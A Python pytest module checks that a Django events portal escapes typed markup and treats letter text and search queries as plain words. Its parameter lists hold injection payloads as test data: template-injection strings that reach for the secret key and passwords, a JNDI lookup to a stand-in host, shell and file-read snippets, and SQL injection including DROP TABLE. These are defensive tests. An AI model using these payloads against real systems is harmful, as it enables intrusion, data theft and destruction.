"""What is typed stays words: in pages, searches, and the letters that the business team may change."""

import re

import pytest

from events import actions
from events.models import LetterWords
from portal.lib.models import Email
from tests.abuse.more import sealed_again
from tests.abuse.planting import Room, plant, unplanted
from tests.factories.accounts import partnership
from tests.factories.events import event
from tests.factories.library import resource
from tests.forms import filled
from tests.house.knocking import cookies_of
from tests.house.register import doors

pytestmark = pytest.mark.django_db

MARKUP = "<i data-evil>\"'>&lt;{{913*907}}"


def markup(room: Room) -> str:
    """All of it, or its beginning where there is no room for more."""
    return MARKUP if (room.max_length or 100) >= len(MARKUP) else "<i data-evil>"


@pytest.mark.long
@pytest.mark.parametrize("who", ["visitor", "priya", "morgan", "tom", "bea", "adi"])
def test_no_page_lets_typed_markup_through(client, people, everywhere, who):
    """Every text of every table is markup; the journey looks with a browser, this one at every address."""
    assert unplanted(plant(markup)) == set()
    named = sealed_again(everywhere)
    kept, live = cookies_of(client, people.get(who)), {}
    seen = 0
    for door in doors():
        if door.method == "GET":
            client.cookies = kept.copy()
            answer = client.get(door.path.format(**named))
            if answer.get("Content-Type", "").startswith("text/html") and not answer.streaming:
                page = answer.content.decode()
                seen += page.count("&lt;i data-evil&gt;")
                if "<i data-evil" in page or "828091" in page:
                    live[door.path] = page.partition("<i data-evil")[0][-200:]
    assert live == {}
    assert seen > 20


TEMPLATES = [
    "{{ 913*907 }}",
    "{% debug %}",
    "{% include 'base.html' %}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{title.__class__}",
    "{title.__class__.__mro__[1].__subclasses__}",
    "{0.__class__}",
    "{title!r:>999999999}",
    "{title:{title}}",
    "%(title)s%n%s",
    "${jndi:ldap://evil.example/x}",
    "#{913*907}",
    "<%= 913*907 %>",
    "{{constructor.constructor('return 1')()}}",
    "__import__('os').system('id')",
    '#import "/etc/passwd"',
]


@pytest.mark.parametrize("words", TEMPLATES)
def test_words_of_a_letter_are_never_a_template(client, bea, priya, words):
    """They are refused as an unknown field, or arrive as they were typed."""
    partnership()
    client.force_login(bea)
    own = {"subject": "x", "heading": "x", "opening": words, "closing": ""}
    answer = client.post("/desk/events/letters/booked/", filled(**own))
    assert answer.status_code in {302, 422}
    actions.book(event=event(title="Noticing"), person=priya, by=priya)
    letter = Email.objects.get(letter="events/booked", to=priya.email)
    said = letter.subject + letter.text + letter.html
    assert ("828091" in said, "<class" in said, "md5$" in said) == (False, False, False)


@pytest.mark.parametrize("words", TEMPLATES)
def test_words_written_past_the_form_are_no_template_either(priya, words):
    partnership()
    LetterWords.objects.create(
        letter="booked", subject=words[:200], heading=words[:160], opening=words, closing=words
    )
    actions.book(event=event(title="Noticing"), person=priya, by=priya)
    letter = Email.objects.get(letter="events/booked", to=priya.email)
    said = letter.subject + letter.text + letter.html
    assert ("828091" in re.sub(r"#[0-9a-f]{3,6}|[0-9]{4,}", "", said), "md5$" in said, "<class" in said) == (
        False,
    ) * 3


@pytest.mark.parametrize("field", ["title", "name"])
@pytest.mark.parametrize("words", ["{title}", "{{ 913*907 }}", "{event_page}", "{first_name.__class__}"])
def test_what_is_filled_in_is_not_filled_in_again(priya, field, words):
    partnership()
    at = event(title=words if field == "title" else "Noticing", slug="x")
    if field == "name":
        priya.name = f"{words} Nair"
        priya.save()
    actions.book(event=at, person=priya, by=priya)
    letter = Email.objects.get(letter="events/booked", to=priya.email)
    assert (words if field == "title" else words.split()[0]) in letter.text.replace("\\", "")


SEARCHES = [
    "'", "''", '"', "' OR '1'='1", "'; DROP TABLE accounts_user; --", "\\", "\\'", "%", "_", "%%", "*", ":*", "!", "& |", "<->",
    "a <2> b", "(((", ")", "a & !b:*AB", "$$", "/*", "--", "'||pg_sleep(9)||'", "1) UNION SELECT password FROM accounts_user--",
    "a\u0000b", "\ufdd0", "ﷺ" * 60, "a" * 5000, "e" + "\u0301" * 300, "{1..9}", "(a+)+$", "[[:alpha:]]", "?", "%s", "%(q)s",
]  # fmt: skip


@pytest.mark.parametrize("words", SEARCHES, ids=lambda words: ascii(words[:12]))
def test_no_search_is_more_than_a_search(client, adi, words):
    partnership()
    resource("report", title="Plain report", slug="plain")
    client.force_login(adi)
    for address in (
        "/library/",
        "/desk/people/",
        "/desk/agencies/",
        "/desk/emails/",
        "/desk/library/",
        "/desk/jobs/",
    ):
        assert client.get(address, {"q": words}).status_code == 200


@pytest.mark.parametrize("words", ["%", "_", "__________", "Pri%", "P_iya", "\\"])
def test_the_signs_of_like_are_signs(client, adi, priya, words):
    partnership()
    client.force_login(adi)
    assert list(client.get("/desk/people/", {"q": words}).context["page"]) == []
